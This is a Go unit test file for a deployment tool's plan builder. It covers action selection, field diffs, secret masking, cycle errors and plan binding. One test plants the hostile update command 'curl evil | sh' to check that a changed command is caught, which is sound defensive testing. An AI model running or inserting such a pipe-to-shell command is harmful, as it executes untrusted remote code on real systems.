package plan

import (
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/deployer-dev/deployer/internal/config"
	"github.com/deployer-dev/deployer/internal/jsontree"
	"github.com/deployer-dev/deployer/internal/statestore"
)

func TestBuildActions(t *testing.T) {
	d := desired(
		comp("app/new", "MicroService", map[string]any{"image": "a:1"}),
		comp("app/same", "MicroService", map[string]any{"replicas": 2, "ratio": 0.5}),
		comp("app/changed", "MicroService", map[string]any{"scaling": map[string]any{"minReplicas": 5, "maxReplicas": 10}}),
		comp("data/db", "RDS", map[string]any{"engine": map[string]any{"type": "postgres", "version": "15.4"}}),
		comp("app/rekinded", "PulumiResource", map[string]any{"type": "x"}),
	)
	st := state(map[string]*statestore.Resource{
		// numbers from decoded JSON are json.Number: 2 == json.Number("2")
		"app/same":     res("MicroService", map[string]any{"replicas": json.Number("2"), "ratio": json.Number("0.5")}),
		"app/changed":  res("MicroService", map[string]any{"scaling": map[string]any{"minReplicas": json.Number("2"), "maxReplicas": json.Number("10")}}),
		"data/db":      res("RDS", map[string]any{"engine": map[string]any{"type": "mysql", "version": "15.4"}}),
		"app/rekinded": res("MicroService", map[string]any{"type": "x"}),
		"app/gone":     res("Command", map[string]any{}),
	})
	replaceOn := func(kind string) []string {
		if kind == "RDS" {
			return []string{"engine.type"}
		}
		return nil
	}
	p, err := Build(d, st, Options{ReplaceOn: replaceOn, Now: fixedNow})
	if err != nil {
		t.Fatal(err)
	}
	if p.FormatVersion != "deployer-plan-v1" || p.Stack != "shop" || p.Environment != "prod" || p.Serial != 7 || p.Lineage != st.Lineage {
		t.Errorf("plan header = %+v", p)
	}
	got := map[string]Step{}
	for _, s := range p.Steps {
		got[s.Address] = s
	}
	want := map[string]Action{"app/new": Create, "app/same": NoOp, "app/changed": Update, "data/db": Replace, "app/rekinded": Replace, "app/gone": Delete}
	for addr, a := range want {
		if got[addr].Action != a {
			t.Errorf("%s: action %s, want %s", addr, got[addr].Action, a)
		}
	}
	if diff := cmp.Diff(Summary{Create: 1, Update: 1, Replace: 2, Delete: 1, NoOp: 1}, p.Summary); diff != "" {
		t.Errorf("summary (-want +got):\n%s", diff)
	}
	if !p.HasChanges() || len(p.Changes()) != 5 {
		t.Errorf("HasChanges %v, %d changes; want true, 5", p.HasChanges(), len(p.Changes()))
	}
	checks := map[string][]FieldDiff{
		"app/new":      {{Path: "image", New: "a:1", Op: OpAdd}},
		"app/changed":  {{Path: "scaling.minReplicas", Old: json.Number("2"), New: 5, Op: OpChange}},
		"data/db":      {{Path: "engine.type", Old: "mysql", New: "postgres", Op: OpChange, ForcesReplacement: true}},
		"app/rekinded": {{Path: PathKind, Old: "MicroService", New: "PulumiResource", Op: OpChange, ForcesReplacement: true}},
	}
	for addr, diffs := range checks {
		if diff := cmp.Diff(diffs, got[addr].Diffs); diff != "" {
			t.Errorf("%s diffs (-want +got):\n%s", addr, diff)
		}
	}
	if g := got["app/gone"]; g.Prior != st.Resources["app/gone"] || g.Config != nil || g.Kind != "Command" || g.Settings != nil {
		t.Errorf("delete step = %+v", g)
	}
	if g := got["app/changed"]; g.Prior != st.Resources["app/changed"] || g.Config["scaling"] == nil {
		t.Errorf("update step lacks Prior or Config: %+v", g)
	}
}

func TestBuildWithoutStateCreatesEverything(t *testing.T) {
	p, err := Build(desired(comp("a/x", "Command", nil)), nil, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if p.Serial != 0 || p.Lineage != "" || p.Summary.Create != 1 || p.Steps[0].Config == nil || p.Steps[0].Settings == nil {
		t.Errorf("plan = %+v, step %+v", p, p.Steps[0])
	}
	empty, _ := Build(desired(), nil, Options{})
	if empty.HasChanges() || len(empty.Steps) != 0 {
		t.Errorf("empty plan has changes: %+v", empty)
	}
}

func TestFieldDiffs(t *testing.T) {
	tests := []struct {
		name     string
		old, new map[string]any
		want     []FieldDiff
	}{
		{"nested add change remove",
			map[string]any{"a": map[string]any{"b": 1, "c": "x"}, "gone": true},
			map[string]any{"a": map[string]any{"b": 2, "d": "y"}},
			[]FieldDiff{{Path: "a.b", Old: 1, New: 2, Op: OpChange}, {Path: "a.c", Old: "x", Op: OpRemove}, {Path: "a.d", New: "y", Op: OpAdd}, {Path: "gone", Old: true, Op: OpRemove}}},
		{"lists by index",
			map[string]any{"ports": []any{80, 443}},
			map[string]any{"ports": []any{8080, 443, 9090}},
			[]FieldDiff{{Path: "ports[0]", Old: 80, New: 8080, Op: OpChange}, {Path: "ports[2]", New: 9090, Op: OpAdd}}},
		{"list of maps",
			map[string]any{"rules": []any{map[string]any{"port": 80}}},
			map[string]any{"rules": []any{map[string]any{"port": 81}}},
			[]FieldDiff{{Path: "rules[0].port", Old: 80, New: 81, Op: OpChange}}},
		{"type change is one diff",
			map[string]any{"image": map[string]any{"tag": "v1"}},
			map[string]any{"image": "app:v1"},
			[]FieldDiff{{Path: "image", Old: map[string]any{"tag": "v1"}, New: "app:v1", Op: OpChange}}},
		{"numbers by value, null equals absent",
			map[string]any{"a": json.Number("5"), "b": 1.0, "c": nil, "big": json.Number("9007199254740993")},
			map[string]any{"a": 5, "b": 1, "big": int64(9007199254740993)},
			nil},
		{"number vs string differs",
			map[string]any{"v": json.Number("15")},
			map[string]any{"v": "15"},
			[]FieldDiff{{Path: "v", Old: json.Number("15"), New: "15", Op: OpChange}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := &differ{}
			d.compare("", tc.old, tc.new)
			if diff := cmp.Diff(tc.want, d.out); diff != "" {
				t.Errorf("diffs (-want +got):\n%s", diff)
			}
		})
	}
}

func TestDependsOnChangeAloneIsAnUpdate(t *testing.T) {
	d := desired(comp("a/x", "RDS", nil), comp("a/y", "RDS", nil, "a/x"))
	st := state(map[string]*statestore.Resource{"a/x": res("RDS", nil), "a/y": res("RDS", map[string]any{})})
	p, err := Build(d, st, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := addrs(p.Steps); got != "no-op a/x, update a/y" {
		t.Fatalf("steps = %s", got)
	}
	want := []FieldDiff{{Path: PathDependsOn, Old: []string{}, New: []string{"a/x"}, Op: OpChange}}
	if diff := cmp.Diff(want, p.Steps[1].Diffs); diff != "" {
		t.Errorf("diffs (-want +got):\n%s", diff)
	}
}

func TestFailedComponentIsAppliedAgain(t *testing.T) {
	r := res("Command", map[string]any{"v": 1})
	r.Status = "failed"
	p, err := Build(desired(comp("a/x", "Command", map[string]any{"v": 1})), state(map[string]*statestore.Resource{"a/x": r}), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if s := p.Steps[0]; s.Action != Update || len(s.Diffs) != 1 || s.Diffs[0].Path != PathStatus {
		t.Errorf("step = %+v, want an update with a (status) diff", s)
	}
}

func TestSecretsAreMaskedInDiffsNotInConfig(t *testing.T) {
	c := comp("a/db", "RDS", map[string]any{
		"db_password": "hunter2",
		"apiKey":      "k-123",
		"auth":        map[string]any{"tokens": []any{"t1"}},
		"master":      map[string]any{"secret": true, "value": "s3cr3t"},
		"custom":      "c-1",
		"name":        "users",
	})
	c.Secrets = []string{"custom"}
	st := state(map[string]*statestore.Resource{"a/db": res("RDS", map[string]any{
		"db_password": "old-pw", "master": map[string]any{"secret": true, "value": "old"}, "name": "users", "custom": "c-0",
	})})
	p, err := Build(desired(c), st, Options{})
	if err != nil {
		t.Fatal(err)
	}
	want := []FieldDiff{
		{Path: "apiKey", New: Masked, Op: OpAdd, Sensitive: true},
		{Path: "auth.tokens[0]", New: Masked, Op: OpAdd, Sensitive: true},
		{Path: "custom", Old: Masked, New: Masked, Op: OpChange, Sensitive: true},
		{Path: "db_password", Old: Masked, New: Masked, Op: OpChange, Sensitive: true},
		{Path: "master", Old: Masked, New: Masked, Op: OpChange, Sensitive: true},
	}
	if diff := cmp.Diff(want, p.Steps[0].Diffs); diff != "" {
		t.Errorf("diffs (-want +got):\n%s", diff)
	}
	if p.Steps[0].Config["db_password"] != "hunter2" {
		t.Errorf("Step.Config must stay unmasked for the engines")
	}
	data, _ := json.Marshal(p)
	for _, s := range []string{"hunter2", "k-123", "t1", "s3cr3t", "old-pw", "c-1"} {
		if strings.Contains(string(data), s) {
			t.Errorf("plan JSON contains the secret %q", s)
		}
	}
}

func TestCycleErrorNamesTheCycle(t *testing.T) {
	d := desired(
		comp("a/x", "RDS", nil, "a/y"),
		comp("a/y", "RDS", nil, "b/z"),
		comp("b/z", "RDS", nil, "a/x"),
		comp("c/free", "RDS", nil),
	)
	_, err := Build(d, nil, Options{})
	var ce *CycleError
	if !errors.As(err, &ce) {
		t.Fatalf("err = %v, want *CycleError", err)
	}
	if want := "dependency cycle: a/x -> a/y -> b/z -> a/x (remove one of these depends_on entries)"; err.Error() != want {
		t.Errorf("err = %q, want %q", err, want)
	}
}

// A kind's settings are desired config: a create lists them, a changed
// setting is an update with a SECTION.KEY diff when the state recorded
// them (KindSettings.Recorded), nothing is compared when it did not, and a
// delete carries what was recorded and says what it runs.
func TestKindSettingsAreDiffedAndDeletesSayWhatRuns(t *testing.T) {
	widget := KindSettings{
		Recorded: func(r *statestore.Resource) (map[string]map[string]any, bool) {
			m, ok := r.ActualState["spec"].(map[string]any)
			return map[string]map[string]any{"spec": m}, ok
		},
		Runs: func(s map[string]map[string]any) *string {
			v, _ := s["spec"]["teardown"].(string)
			return &v
		},
	}
	opts := Options{Now: fixedNow, Settings: func(kind string) KindSettings {
		if kind == "Widget" {
			return widget
		}
		return KindSettings{}
	}}
	withSpec := func(addr string, spec map[string]any) *config.ResolvedComponent {
		c := comp(addr, "Widget", map[string]any{})
		c.Settings = map[string]map[string]any{"spec": spec}
		return c
	}
	recorded := func(spec map[string]any) *statestore.Resource {
		r := res("Widget", map[string]any{})
		if spec != nil {
			r.ActualState = map[string]any{"spec": spec}
		}
		return r
	}
	d := desired(withSpec("w/new", map[string]any{"size": "s"}), withSpec("w/changed", map[string]any{"size": "l"}),
		withSpec("w/unrecorded", map[string]any{"size": "l"}))
	st := state(map[string]*statestore.Resource{
		"w/changed":    recorded(map[string]any{"size": "s"}),
		"w/unrecorded": recorded(nil),
		"w/gone":       recorded(map[string]any{"size": "s", "teardown": "./down.sh"}),
	})
	p, err := Build(d, st, opts)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]Step{}
	for _, s := range p.Steps {
		got[s.Address] = s
	}
	want := map[string][]FieldDiff{
		"w/new":     {{Path: "spec.size", New: "s", Op: OpAdd}},
		"w/changed": {{Path: "spec.size", Old: "s", New: "l", Op: OpChange}},
	}
	for addr, diffs := range want {
		if diff := cmp.Diff(diffs, got[addr].Diffs); diff != "" {
			t.Errorf("%s diffs (-want +got):\n%s", addr, diff)
		}
	}
	if got["w/changed"].Action != Update || got["w/unrecorded"].Action != NoOp {
		t.Errorf("changed: %s, unrecorded: %s %v; want update and no-op", got["w/changed"].Action, got["w/unrecorded"].Action, got["w/unrecorded"].Diffs)
	}
	gone := got["w/gone"]
	if gone.Action != Delete || gone.Runs == nil || *gone.Runs != "./down.sh" || gone.Settings["spec"]["teardown"] != "./down.sh" {
		t.Errorf("w/gone: %s runs %v settings %v, want a delete that runs ./down.sh with the recorded settings", gone.Action, gone.Runs, gone.Settings)
	}
	// Without the kind's rules nothing is recorded and deletes show nothing.
	p, err = Build(desired(), st, Options{Now: fixedNow})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range p.Steps {
		if s.Runs != nil || s.Settings != nil {
			t.Errorf("%s without rules: runs %v settings %v, want none", s.Address, s.Runs, s.Settings)
		}
	}
}

// A data component whose outputs read when planning differ from the
// recorded ones is an update with (outputs) diffs, and a dependent that saw
// the old ones an update with (inputs) diffs.
func TestReadOutputsMakeTheReferenceAndItsDependentsUpdates(t *testing.T) {
	old := map[string]any{"stack": "organization/base/dev", "outputs": map[string]any{"base/v": map[string]any{"version": "1"}}}
	now := map[string]any{"stack": "organization/base/dev", "outputs": map[string]any{"base/v": map[string]any{"version": "2"}}}
	refRes := res("StackReference", map[string]any{"stack": "base"})
	refRes.Outputs = old
	consumer := res("MicroService", map[string]any{}, "upstream/base")
	consumer.Inputs = ResolveInputs([]string{"upstream/base"}, func(string) map[string]any { return old })
	d := desired(comp("upstream/base", "StackReference", map[string]any{"stack": "base"}), comp("app/c", "MicroService", map[string]any{}, "upstream/base"))
	st := state(map[string]*statestore.Resource{"upstream/base": refRes, "app/c": consumer})
	p, err := Build(d, st, Options{Now: fixedNow, Read: map[string]map[string]any{"upstream/base": old}})
	if err != nil || p.HasChanges() {
		t.Fatalf("unchanged read outputs: %v, changes %v; want no changes", err, p.Changes())
	}
	p, err = Build(d, st, Options{Now: fixedNow, Read: map[string]map[string]any{"upstream/base": now}})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][]FieldDiff{
		"upstream/base": {{Path: "(outputs).outputs.base/v.version", Old: "1", New: "2", Op: OpChange}},
		"app/c":         {{Path: "(inputs).upstream/base.outputs.base/v.version", Old: "1", New: "2", Op: OpChange}},
	}
	for _, s := range p.Steps {
		if s.Action != Update {
			t.Errorf("%s: %s, want update", s.Address, s.Action)
		}
		if diff := cmp.Diff(want[s.Address], s.Diffs); diff != "" {
			t.Errorf("%s diffs (-want +got):\n%s", s.Address, diff)
		}
	}
}

// Bind digests every kind of secret and CompareBinding names the first
// difference, secrets as (sensitive).
func TestBindDigestsSecretsAndCompareNamesTheFirstDifference(t *testing.T) {
	c := comp("web/site", "Command", map[string]any{
		"image": "nginx:1.2", "db_password": "hunter2", "token": map[string]any{"secret": true, "value": "t0k"},
		"listed": map[string]any{"inner": "s3cr3t"}, "ports": []any{80, 443},
	})
	c.Secrets = []string{"listed.inner"}
	dig := func(_ string, data []byte) string { return "test:" + string(data) }
	b := Bind(desired(c), "", nil, "v1", "test", dig)
	data, _ := json.Marshal(b)
	for _, leak := range []string{`"hunter2"`, `"t0k"`, `"s3cr3t"`} {
		if strings.Contains(string(data), `:`+leak) {
			t.Errorf("binding holds %s as a value: %s", leak, data)
		}
	}
	cfg := b.Components["web/site"].Config
	if cfg["db_password"].(map[string]any)[DigestKey] != `test:"hunter2"` || cfg["token"].(map[string]any)[DigestKey] != `test:"t0k"` ||
		cfg["listed"].(map[string]any)["inner"].(map[string]any)[DigestKey] != `test:"s3cr3t"` || cfg["image"] != "nginx:1.2" {
		t.Errorf("bound config = %v", cfg)
	}
	if d := CompareBinding(b, Bind(desired(c), "", nil, "v1", "test", dig), "prod"); d != nil {
		t.Errorf("same binding: %v", d)
	}
	c2 := comp("web/site", "Command", jsontree.CopyMap(c.Config))
	c2.Secrets = c.Secrets
	c2.Settings["command"]["update"] = "curl evil | sh"
	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
		d.String() != `services.web.components.site.command.update: planned (absent), now "curl evil | sh"` {
		t.Errorf("first difference = %v", d)
	}
	delete(c2.Settings["command"], "update")
	c2.Config["db_password"], c2.Config["image"] = "other", "evil:1"
	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
		d.String() != `services.web.components.site.config.db_password: planned (sensitive), now (sensitive)` {
		t.Errorf("first difference = %v", d)
	}
	c2.Config["db_password"] = "hunter2"
	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
		d.String() != `services.web.components.site.config.image: planned "nginx:1.2", now "evil:1"` {
		t.Errorf("first difference = %v", d)
	}
}

// A bound component's settings sit under their section's key beside kind and
// config, as saved plans have always written a component's commands, and
// read back the same.
func TestBoundSettingsKeepTheirKey(t *testing.T) {
	b := BoundComponent{Kind: "Command", DependsOn: []string{"a/b"}, Config: map[string]any{"n": json.Number("1.50")},
		Settings: map[string]map[string]any{"command": {"create": "./up.sh"}, "empty": {}}}
	data, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	if want := `{"kind":"Command","depends_on":["a/b"],"config":{"n":1.50},"command":{"create":"./up.sh"}}`; string(data) != want {
		t.Errorf("JSON = %s\nwant   %s", data, want)
	}
	var back BoundComponent
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if back.Config["n"] != json.Number("1.50") || back.Settings["command"]["create"] != "./up.sh" || len(back.Settings) != 1 || back.Kind != "Command" {
		t.Errorf("read back %+v", back)
	}
}

// A replace deletes the existing instance with the settings its state
// recorded (older forms included), with the desired ones when a state of
// the same kind recorded none, and with none after a kind change; its
// runs says what that delete runs, by the rules of the existing instance's
// kind.
func TestReplaceDeletesWithThePriorSettings(t *testing.T) {
	widget := KindSettings{
		Recorded: func(r *statestore.Resource) (map[string]map[string]any, bool) {
			if m, ok := r.ActualState["spec"].(map[string]any); ok {
				return map[string]map[string]any{"spec": m}, true
			}
			if old, ok := r.ActualState["teardown"].(string); ok { // an older form
				return map[string]map[string]any{"spec": {"teardown": old}}, false
			}
			return map[string]map[string]any{"spec": nil}, false
		},
		Runs: func(s map[string]map[string]any) *string {
			if s == nil {
				return nil
			}
			v, _ := s["spec"]["teardown"].(string)
			return &v
		},
	}
	opts := Options{Now: fixedNow, ReplaceOn: func(string) []string { return []string{"zone", "spec.zone"} },
		Settings: func(kind string) KindSettings {
			if kind == "Widget" {
				return widget
			}
			return KindSettings{}
		}}
	desiredSpec := map[string]any{"zone": "b", "teardown": "./new-down.sh"}
	var cs []*config.ResolvedComponent
	for _, addr := range []string{"w/recorded", "w/older", "w/unrecorded", "w/kind"} {
		c := comp(addr, "Widget", map[string]any{"zone": "b"})
		c.Settings = map[string]map[string]any{"spec": desiredSpec}
		cs = append(cs, c)
	}
	// A Widget becoming a Gadget is deleted as a Widget: with the settings
	// its state recorded, running what Widget's rules say.
	cs = append(cs, comp("w/towidget", "Gadget", map[string]any{"zone": "a"}))
	withActual := func(kind string, actual map[string]any) *statestore.Resource {
		r := res(kind, map[string]any{"zone": "a"})
		r.ActualState = actual
		return r
	}
	recorded := map[string]any{"zone": "a", "teardown": "./old-down.sh"}
	p, err := Build(desired(cs...), state(map[string]*statestore.Resource{
		"w/recorded":   withActual("Widget", map[string]any{"spec": recorded}),
		"w/older":      withActual("Widget", map[string]any{"teardown": "./older-down.sh"}),
		"w/unrecorded": withActual("Widget", nil),
		"w/kind":       withActual("Gadget", map[string]any{"spec": recorded}),
		"w/towidget":   withActual("Widget", map[string]any{"spec": recorded}),
	}), opts)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]struct {
		prior map[string]map[string]any
		runs  *string
	}{
		"w/recorded":   {map[string]map[string]any{"spec": recorded}, new("./old-down.sh")},
		"w/older":      {map[string]map[string]any{"spec": {"teardown": "./older-down.sh"}}, new("./older-down.sh")},
		"w/unrecorded": {map[string]map[string]any{"spec": desiredSpec}, new("./new-down.sh")},
		"w/kind":       {nil, nil},
		"w/towidget":   {map[string]map[string]any{"spec": recorded}, new("./old-down.sh")},
	}
	for _, s := range p.Steps {
		w := want[s.Address]
		if s.Address == "w/towidget" {
			if s.Action != Replace || !cmp.Equal(s.PriorSettings, w.prior) || !cmp.Equal(s.Runs, w.runs) {
				t.Errorf("%s: %s prior settings %v runs %v; want a replace with prior settings %v, runs %v (the old kind's)",
					s.Address, s.Action, s.PriorSettings, s.Runs, w.prior, w.runs)
			}
			continue
		}
		if s.Action != Replace || !cmp.Equal(s.PriorSettings, w.prior) || !cmp.Equal(s.Runs, w.runs) || !cmp.Equal(s.Settings["spec"], desiredSpec) {
			t.Errorf("%s: %s prior settings %v runs %v settings %v; want a replace with prior settings %v, runs %v and the desired settings",
				s.Address, s.Action, s.PriorSettings, s.Runs, s.Settings, w.prior, w.runs)
		}
	}
}

// Bind hands the Digester each secret's place: the same value in two
// fields, or two components, is digested at two places.
func TestBindDigestsEachSecretAtItsPlace(t *testing.T) {
	a := comp("web/a", "Command", map[string]any{"db_password": "same", "api_token": "same"})
	b := comp("web/b", "Command", map[string]any{"db_password": "same"})
	res := desired(a)
	res.Components[b.Address] = b
	var places []string
	Bind(res, "", nil, "v1", "test", func(place string, data []byte) string {
		places = append(places, place)
		return "test:" + place
	})
	slices.Sort(places)
	want := []string{"web/a config.api_token", "web/a config.db_password", "web/b config.db_password"}
	if !slices.Equal(places, want) {
		t.Errorf("places %q, want %q", places, want)
	}
}
